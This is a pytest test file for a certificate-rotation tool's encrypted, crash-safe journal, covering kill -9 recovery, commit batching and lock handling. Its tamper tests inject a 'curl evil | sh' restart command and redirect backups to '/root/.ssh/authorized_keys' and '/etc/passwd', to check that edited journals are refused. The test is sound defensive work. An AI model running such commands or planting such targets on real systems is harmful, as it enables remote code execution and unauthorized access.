"""The rotation journal: durable intent, compare-and-swap steps, first-state backups sealed at rest."""

from __future__ import annotations

import asyncio
import os
import signal
import sqlite3
import stat
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest

from sweeper.errors import BadInput
from sweeper.rotate.journal import DB_NAME, Journal, JournalError
from tests.support import run

PASS = "correct horse battery staple"
KEY_PEM = (
    b"-----BEGIN PRIVATE KEY-----\n"
    b"MC4CAQAwBQYDK2VwBCIEIOldSecretKeyMaterialForTheJournalTest0000\n"
    b"-----END PRIVATE KEY-----\n"
)


def begin(journal: Journal, node: str, phase: str, step: str) -> bool:
    """`Journal.begin` from synchronous code: it returns once the intent is on disk."""
    return asyncio.run(journal.begin(node, phase, step))


def backup(journal: Journal, *args: Any, **named: Any) -> bool:
    """`Journal.backup` from synchronous code: it returns once the backup is on disk."""
    return asyncio.run(journal.backup(*args, **named))


def test_journal_directory_is_private_and_reopens_only_with_its_passphrase(tmp_path: Path) -> None:
    journal = Journal.create(tmp_path / "j", PASS, {"run_id": "abc"})
    journal.close()
    assert stat.S_IMODE((tmp_path / "j").stat().st_mode) == 0o700
    assert stat.S_IMODE((tmp_path / "j" / DB_NAME).stat().st_mode) == 0o600
    assert Journal.open(tmp_path / "j", PASS).meta("run_id") == "abc"
    with pytest.raises(BadInput):
        Journal.open(tmp_path / "j", "wrong")
    with pytest.raises(JournalError):
        Journal.create(tmp_path / "j", PASS, {})


def test_a_done_step_is_never_begun_again(tmp_path: Path) -> None:
    journal = Journal.create(tmp_path / "j", PASS, {})
    journal.plan_steps([("web1", "trust", "add-root"), ("web2", "trust", "add-root")])
    assert begin(journal, "web1", "trust", "add-root") is True
    journal.finish("web1", "trust", "add-root", {"read_back": True})
    assert begin(journal, "web1", "trust", "add-root") is False
    assert begin(journal, "web2", "trust", "add-root") is True  # pending -> running
    assert begin(journal, "web2", "trust", "add-root") is True  # running again after a crash: resumable
    journal.fail("web2", "trust", "add-root", "connection reset")
    assert begin(journal, "web2", "trust", "add-root") is True
    states = {(s.node, s.state, s.attempts) for s in journal.steps("trust")}
    assert states == {("web1", "done", 1), ("web2", "running", 3)}


def test_a_step_changed_by_someone_else_stops_loudly(tmp_path: Path) -> None:
    journal = Journal.create(tmp_path / "j", PASS, {})
    journal.plan_steps([("n", "reissue", "leaf")])
    begin(journal, "n", "reissue", "leaf")
    with pytest.raises(JournalError, match="another sweeper"):
        Journal.open(tmp_path / "j", PASS)
    # Someone who bypasses the lock (or a bug) still cannot settle a step twice.
    db = sqlite3.connect(tmp_path / "j" / DB_NAME)
    with db:
        db.execute("UPDATE steps SET state = 'done' WHERE node = 'n'")
    db.close()
    with pytest.raises(JournalError):
        journal.finish("n", "reissue", "leaf")
    with pytest.raises(JournalError):
        begin(journal, "n", "reissue", "not-planned")


def test_backups_keep_the_first_state_and_seal_secrets_at_rest(tmp_path: Path) -> None:
    journal = Journal.create(tmp_path / "j", PASS, {})
    assert backup(
        journal,
        "n",
        "file",
        "/etc/tls/server.key",
        existed=True,
        content=KEY_PEM,
        owner="root",
        group="root",
        mode="0600",
        secret=True,
    )
    assert not backup(
        journal, "n", "file", "/etc/tls/server.key", existed=True, content=b"half-changed", secret=True
    )
    backup(journal, "n", "file", "/etc/tls/new.pem", existed=False)
    journal.put_secret("new-root-key", KEY_PEM)
    journal.close()
    raw = b"".join(p.read_bytes() for p in (tmp_path / "j").iterdir())
    assert b"PRIVATE KEY" not in raw and b"OldSecretKeyMaterial" not in raw
    reopened = Journal.open(tmp_path / "j", PASS)
    first, second = list(reopened.backups("n"))
    assert first.content == KEY_PEM and first.mode == "0600" and first.existed
    assert second.target == "/etc/tls/new.pem" and not second.existed and second.content is None
    assert reopened.secret("new-root-key") == KEY_PEM


def test_intent_survives_kill_9(tmp_path: Path) -> None:
    child = textwrap.dedent(f"""
        import asyncio, os, signal
        from pathlib import Path
        from sweeper.rotate.journal import Journal
        j = Journal.create(Path({str(tmp_path / "j")!r}), {PASS!r}, {{}})
        j.plan_steps([("n", "reissue", "leaf")])
        asyncio.run(j.begin("n", "reissue", "leaf"))
        os.kill(os.getpid(), signal.SIGKILL)
    """)
    done = subprocess.run([sys.executable, "-c", child], check=False)
    assert done.returncode == -signal.SIGKILL
    (step,) = Journal.open(tmp_path / "j", PASS).steps()
    assert (step.state, step.attempts) == ("running", 1)
    assert os.path.exists(tmp_path / "j" / DB_NAME)


def _killed_after(tmp_path: Path, calls: str) -> list[tuple[str, str]]:
    """Plan steps a and b of node n, make the journal calls `calls` (Python, on `j`), kill -9 the
    process, and return (step, state) of each as a fresh open reads them."""
    child = (
        textwrap.dedent(f"""
        import asyncio, os, signal
        from pathlib import Path
        from sweeper.rotate.journal import Journal
        j = Journal.create(Path({str(tmp_path / "j")!r}), {PASS!r}, {{}})
        j.plan_steps([("n", "reissue", "a"), ("n", "reissue", "b")])
    """)
        + textwrap.dedent(calls)
        + "os.kill(os.getpid(), signal.SIGKILL)\n"
    )
    done = subprocess.run([sys.executable, "-c", child], check=False)
    assert done.returncode == -signal.SIGKILL
    return [(s.step, s.state) for s in Journal.open(tmp_path / "j", PASS).steps()]


def test_an_outcome_lost_to_kill_9_before_the_next_commit_leaves_its_step_to_be_done_again(
    tmp_path: Path,
) -> None:
    calls = """
        asyncio.run(j.begin("n", "reissue", "a"))
        j.finish("n", "reissue", "a", {"new": "x"})
    """
    assert _killed_after(tmp_path, calls) == [("a", "running"), ("b", "pending")]


def test_the_next_intent_commits_the_outcomes_written_before_it(tmp_path: Path) -> None:
    calls = """
        asyncio.run(j.begin("n", "reissue", "a"))
        j.finish("n", "reissue", "a", {"new": "x"})
        asyncio.run(j.begin("n", "reissue", "b"))
    """
    assert _killed_after(tmp_path, calls) == [("a", "done"), ("b", "running")]


def test_commit_and_close_make_outcomes_durable(tmp_path: Path) -> None:
    calls = """
        asyncio.run(j.begin("n", "reissue", "a"))
        j.fail("n", "reissue", "a", "node went away")
        j.commit()
    """
    assert _killed_after(tmp_path / "commit", calls) == [("a", "failed"), ("b", "pending")]
    journal = Journal.create(tmp_path / "close", PASS, {})
    journal.plan_steps([("n", "reissue", "a")])
    begin(journal, "n", "reissue", "a")
    journal.finish("n", "reissue", "a")
    journal.close()
    assert [s.state for s in Journal.open(tmp_path / "close", PASS).steps()] == ["done"]


def test_nodes_writing_in_the_same_turn_share_one_commit_and_each_goes_on_only_once_on_disk(
    tmp_path: Path,
) -> None:
    journal = Journal.create(tmp_path / "j", PASS, {})
    nodes = [f"n{i:02d}" for i in range(50)]
    journal.plan_steps([(node, "trust", "add-root") for node in nodes])
    commits: list[str] = []
    journal._db.set_trace_callback(lambda sql: commits.append(sql) if sql == "COMMIT" else None)
    other_reader = sqlite3.connect(tmp_path / "j" / DB_NAME)  # sees committed rows only (WAL)
    state_on_disk: dict[str, str] = {}

    async def node_step(node: str) -> None:
        await journal.begin(node, "trust", "add-root")
        query = "SELECT state FROM steps WHERE node = ?"
        state_on_disk[node] = other_reader.execute(query, (node,)).fetchone()[0]
        await journal.backup(node, "file", "/etc/tls/ca.pem", existed=False)
        journal.finish(node, "trust", "add-root")

    async def fleet() -> None:
        await asyncio.gather(*(node_step(node) for node in nodes))

    asyncio.run(fleet())
    assert state_on_disk == dict.fromkeys(nodes, "running")
    assert len(commits) == 2, "50 intents in one commit, then 50 backups in another"
    journal.close()
    reopened = Journal.open(tmp_path / "j", PASS)
    assert {s.state for s in reopened.steps()} == {"done"} and len(list(reopened.backups())) == 50


def test_a_write_the_disk_refuses_stops_every_node_whose_row_went_with_it(tmp_path: Path) -> None:
    journal = Journal.create(tmp_path / "j", PASS, {})
    journal.plan_steps([("a", "trust", "add-root")])
    # SQLite answers some errors (a full disk, an I/O error) by rolling the whole open
    # transaction back, with rows other nodes wrote and still wait on
    journal._db.execute(
        "CREATE TEMP TRIGGER refused BEFORE INSERT ON backups "
        "BEGIN SELECT RAISE(ROLLBACK, 'database or disk is full'); END"
    )
    went_on: list[str] = []

    async def intent() -> None:
        await journal.begin("a", "trust", "add-root")
        went_on.append("a")

    async def backup_of_b() -> None:
        await journal.backup("b", "file", "/etc/tls/ca.pem", existed=False)
        went_on.append("b")

    async def both() -> list[object]:
        return await asyncio.gather(intent(), backup_of_b(), return_exceptions=True)

    results = asyncio.run(both())
    journal.close()
    on_disk = {s.node: s.state for s in Journal.open(tmp_path / "j", PASS).steps()}
    assert on_disk == {"a": "pending"}, "the refused transaction took a's intent with it"
    assert went_on == [], "a went on to change its node though its intent is not on disk"
    assert all(isinstance(r, JournalError) and "disk is full" in str(r) for r in results)


def test_a_journal_of_another_format_or_not_a_journal_is_refused_in_one_line(tmp_path: Path) -> None:
    Journal.create(tmp_path / "j", PASS, {}).close()
    db = sqlite3.connect(tmp_path / "j" / DB_NAME)
    with db:
        db.execute("DELETE FROM meta WHERE key = 'format'")
    db.close()
    with pytest.raises(JournalError, match="older format"):
        Journal.open(tmp_path / "j", PASS)
    (tmp_path / "other").mkdir()
    sqlite3.connect(tmp_path / "other" / DB_NAME).close()
    with pytest.raises(JournalError, match="not a sweeper journal"):
        Journal.open(tmp_path / "other", PASS)


def tampered(tmp_path: Path, sql: str, params: tuple = ()) -> Path:
    """A journal with a step, a backup and a plan, then edited with sqlite3 as anyone who can
    write the file (but does not know the passphrase) could."""
    journal = Journal.create(tmp_path / "j", PASS, {"plan": {"restart": "systemctl reload nginx"}})
    journal.plan_steps([("web1", "reissue", "restart:services")])
    backup(journal, "web1", "file", "/etc/tls/server.crt", existed=True, content=b"old", mode="0644")
    journal.close()
    db = sqlite3.connect(tmp_path / "j" / DB_NAME)
    with db:
        db.execute(sql, params)
    db.close()
    return tmp_path / "j"


@pytest.mark.parametrize(
    "sql",
    [
        "UPDATE backups SET target = '/root/.ssh/authorized_keys'",
        "UPDATE meta SET value = '{\"restart\": \"curl evil | sh\"}' WHERE key = 'plan'",
        "UPDATE steps SET state = 'done'",
        "INSERT INTO backups (node, kind, target, existed, sealed, mac) "
        "VALUES ('web1', 'file', '/etc/passwd', 1, 0, 'ff')",
    ],
)
def test_a_journal_edited_without_the_passphrase_is_refused_before_use(tmp_path: Path, sql: str) -> None:
    directory = tampered(tmp_path, sql)
    with pytest.raises(JournalError, match="altered"):
        Journal.open(directory, PASS)


def test_rollback_of_an_edited_journal_is_one_line_exit_2_before_any_change(tmp_path: Path) -> None:
    directory = tampered(tmp_path, "UPDATE backups SET target = '/root/.ssh/authorized_keys'")
    done = run.sweeper("rollback", str(directory), env={"SWEEPER_JOURNAL_PASSPHRASE": PASS})
    assert done.returncode == 2 and "altered" in done.stderr and len(done.stderr.strip().splitlines()) == 1


def test_a_second_sweeper_making_a_journal_in_the_same_folder_stops_before_touching_it(
    tmp_path: Path,
) -> None:
    import fcntl

    folder = tmp_path / "j"
    folder.mkdir()
    first = os.open(folder / "lock", os.O_RDWR | os.O_CREAT, 0o600)
    fcntl.flock(first, fcntl.LOCK_EX)  # the first sweeper, still making its journal
    try:
        with pytest.raises(JournalError, match="another sweeper is using this journal"):
            Journal.create(folder, PASS, {})
        assert sorted(p.name for p in folder.iterdir()) == ["lock"], "the second one made or removed files"
    finally:
        os.close(first)
    Journal.create(folder, PASS, {}).close()
